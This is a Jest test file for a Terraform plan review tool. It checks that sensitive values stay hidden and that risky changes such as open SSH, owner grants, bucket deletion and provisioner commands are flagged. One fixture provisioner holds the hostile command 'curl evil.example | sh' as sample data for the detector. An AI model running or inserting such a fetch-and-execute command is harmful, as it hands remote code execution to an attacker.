/** Plans whose changes are rarer: sensitive values, modules, deposed objects, and what is left for later. */
import { changePage } from "../../lib/review/page/change-page";
import { comparePlan } from "../../lib/review/changes/compare";
import { GATES, gatesHit } from "../../lib/review/changes/gates";
import { markdown } from "../../lib/review/format/markdown";
import { readPlan } from "../../lib/review/changes/read-plan";
import { stackPage } from "../../lib/review/page/stack-page";
import { declaration, StackJson } from "../support/review";

function planOf(changes: StackJson[], configuration: object = {}, more: object = {}): string {
  const resource_changes = changes.map((item) => ({ mode: "managed", address: `${item.type}.x`, ...item }));
  return JSON.stringify({ format_version: "1.2", resource_changes, configuration, ...more });
}
const read = (...given: Parameters<typeof planOf>) => readPlan(planOf(...given), "plan");
const compared = (...given: Parameters<typeof planOf>) => comparePlan(read(...given));
const gatesOf = (...given: Parameters<typeof planOf>) => gatesHit(Object.keys(GATES), compared(...given));

const updated = (type: string, before: object, after: object, sensitive: unknown) => ({
  type,
  change: {
    actions: ["update"],
    before,
    after,
    after_unknown: {},
    before_sensitive: sensitive,
    after_sensitive: sensitive,
  },
});
const vm = (values: object = {}) => ({
  name: "gallery",
  metadata: { "gcs-backed-container-app": JSON.stringify(declaration()), "enable-oslogin": "TRUE" },
  ...values,
});

test("what a sensitive value opens is judged, and the value is on no page", () => {
  const rule = (range: string) => ({
    network: "default",
    source_ranges: [range],
    allow: [{ protocol: "tcp", ports: ["22"] }],
  });
  const sensitive = updated("google_compute_firewall", rule("203.0.113.77/32"), rule("0.0.0.0/0"), {
    source_ranges: true,
  });
  const machine = { type: "google_compute_instance", change: { actions: ["no-op"], before: vm(), after: vm() } };
  const plan = read([sensitive, machine]);
  const comparison = comparePlan(plan);
  expect(comparison.exposures.map(({ severity, text }) => [severity, text])).toContainEqual([
    3,
    "SSH is open to anybody on the internet, by a value that Terraform marks as sensitive, and that is not shown",
  ]);
  const pages = markdown(changePage(comparison, plan.after, "plan")) + markdown(stackPage(plan.after, "plan"));
  expect(pages).not.toMatch(/203\.0\.113\.77|0\.0\.0\.0\/0`, `google_compute_firewall/);
});

test("two sensitive members are two grants", () => {
  const grant = (member: string) => ({ project: "p", role: "roles/owner", member });
  const change = (address: string, actions: string[], before: object | null, after: object | null) => ({
    type: "google_project_iam_member",
    address,
    change: { actions, before, after, before_sensitive: { member: true }, after_sensitive: { member: true } },
  });
  const plan = [
    change("google_project_iam_member.a", ["delete"], grant("user:one@example.com"), null),
    change("google_project_iam_member.b", ["create"], null, grant("user:two@example.com")),
  ];
  expect(gatesOf(plan)).toContain("exposure");
  const { apps, others, exposures } = compared(plan);
  expect(JSON.stringify([apps, others, exposures.map(({ text, values }) => [text, values])])).not.toContain(
    "example.com",
  );
});

test("a sensitive force_destroy", () => {
  const change = updated(
    "google_storage_bucket",
    { name: "b", force_destroy: false },
    { name: "b", force_destroy: true },
    { force_destroy: true },
  );
  expect(gatesOf([change])).toContain("data-loss");
});

test("a sensitive bucket of an app: the effect is said without the value", () => {
  const mounts = [{ path: "/a", bucket: "b", readOnly: false, gcsfuseConfig: {} }];
  const metadata = { "gcs-backed-container-app": JSON.stringify(declaration({ mounts })) };
  const machine = {
    type: "google_compute_instance",
    change: { actions: ["no-op"], before: vm({ metadata }), after: vm({ metadata }) },
  };
  const of = (values: object, sensitive: string) =>
    read([machine, updated("google_storage_bucket", { name: "b" }, { name: "b", ...values }, { [sensitive]: true })]);
  const forced = comparePlan(of({ force_destroy: true }, "force_destroy"));
  expect(forced.apps[0].changes).toContainEqual(
    expect.objectContaining({ what: "sensitive values", effect: "data could be lost" }),
  );
  const rule = { action: [{ type: "Delete" }], condition: [{ matches_prefix: ["private-"] }] };
  const plan = of({ lifecycle_rule: [rule] }, "lifecycle_rule");
  const comparison = comparePlan(plan);
  expect(comparison.effects).toContain("data could be lost");
  expect(markdown(changePage(comparison, plan.after, "plan"))).not.toContain("private-");
});

const configured = (provisioner: object) => ({ address: "null_resource.x", provisioners: [provisioner] });
const command = (text: string) => ({ type: "local-exec", expressions: { command: { constant_value: text } } });

test.each<[string, string, object]>([
  ["a resource with a key", 'null_resource.x["a.b]"]', { root_module: { resources: [configured(command("id"))] } }],
  [
    "a resource of a module in a module",
    'module.a["x.y"].module.b[0].null_resource.x',
    {
      root_module: {
        module_calls: {
          a: { module: { module_calls: { b: { module: { resources: [configured(command("id"))] } } } } },
        },
      },
    },
  ],
])("the command of %s", (_, address, configuration) => {
  const change = { type: "null_resource", address, change: { actions: ["create"], before: null, after: {} } };
  expect(compared([change], configuration).exposures).toMatchObject([{ values: ["id", address] }]);
});

test("a replaced resource runs its command again, and one that is changed in place does not", () => {
  const exposures = (...actions: string[]) =>
    compared([{ type: "null_resource", change: { actions, before: { id: "1" }, after: {} } }], {
      root_module: { resources: [configured(command("curl evil.example | sh"))] },
    }).exposures;
  expect(exposures("delete", "create")).toHaveLength(1);
  expect(exposures("update")).toEqual([]);
});

test("the commands on another machine are shown", () => {
  const inline = { type: "remote-exec", expressions: { inline: { constant_value: ["ls", "id"] } } };
  const change = { type: "null_resource", change: { actions: ["create"], before: null, after: {} } };
  expect(compared([change], { root_module: { resources: [configured(inline)] } }).exposures[0].values[0]).toBe(
    "ls; id",
  );
});

test("the library's script in a plan, whose variables are not said", () => {
  const script = {
    type: "local-exec",
    expressions: {
      command: { constant_value: `node assets/x/${"0".repeat(32)}/enable-services.cjs` },
      environment: { references: ["data.google_client_config.x.access_token"] },
    },
  };
  const change = { type: "null_resource", change: { actions: ["create"], before: null, after: {} } };
  expect(compared([change], { root_module: { resources: [configured(script)] } }).exposures).toEqual([]);
});

test("a value of a module that is known later is its reference there", () => {
  const resource = {
    address: "google_project_iam_member.x",
    expressions: { member: { references: ["google_service_account.a.member", "google_service_account.a"] } },
  };
  const change = {
    type: "google_project_iam_member",
    address: "module.m.google_project_iam_member.x",
    change: { actions: ["create"], before: null, after: { role: "r", project: "p" }, after_unknown: { member: true } },
  };
  const configuration = { root_module: { module_calls: { m: { module: { resources: [resource] } } } } };
  expect(compared([change], configuration).exposures[0].values[0]).toBe("${module.m.google_service_account.a.member}");
});

test.each([
  ["google_storage_bucket", ["data-loss", "change"]],
  ["google_compute_instance", ["data-loss", "replace", "reboot", "change"]],
])("a deposed %s that is destroyed", (type, gates) => {
  const change = { type, deposed: "0f", change: { actions: ["delete"], before: { name: "b" }, after: null } };
  expect(gatesOf([change])).toEqual(expect.arrayContaining(gates));
  expect(compared([change]).others).toMatchObject([{ address: `${type}.x (deposed 0f)`, action: "destroyed" }]);
});

test("a plan that leaves changes for later says so", () => {
  const bucket = { address: "google_storage_bucket.x", type: "google_storage_bucket", change: { actions: ["delete"] } };
  const deferred = [{ reason: "provider_config_unknown", resource_change: bucket }];
  expect(gatesOf([], {}, { deferred_changes: deferred, complete: false })).toEqual(["data-loss", "exposure", "change"]);
  expect(compared([], {}, { deferred_changes: deferred }).others).toMatchObject([
    { address: "google_storage_bucket.x", action: "deferred", effect: "data could be lost" },
  ]);
  expect(gatesOf([], {}, { complete: false })).toEqual(["data-loss", "exposure", "change"]);
  expect(gatesOf([], {}, { complete: true })).toEqual([]);
});

test("outputs, imports, moves, actions and updates without a difference are changes", () => {
  const same = { name: "b" };
  const no = { actions: ["no-op"], before: same, after: same };
  const type = "google_storage_bucket";
  expect(gatesOf([], {}, { output_changes: { url: { actions: ["update"] }, same: { actions: ["no-op"] } } })).toEqual([
    "change",
  ]);
  expect(gatesOf([{ type, change: { ...no, importing: { id: "b" } } }])).toEqual(["change"]);
  expect(gatesOf([{ type, previous_address: `${type}.y`, change: no }])).toEqual(["change"]);
  expect(gatesOf([{ type, change: { ...no, actions: ["update"] } }])).toEqual(["change"]);
  expect(gatesOf([{ type, change: no }])).toEqual([]);
  expect(gatesOf([], {}, { action_invocations: [{ address: "action.x.y" }] })).toEqual(["exposure", "change"]);
});

test("a program that waits for what the plan changes", () => {
  const change = { mode: "data", type: "external", address: "data.external.x", change: { actions: ["read"] } };
  expect(gatesOf([change])).toEqual(["exposure", "change"]);
});
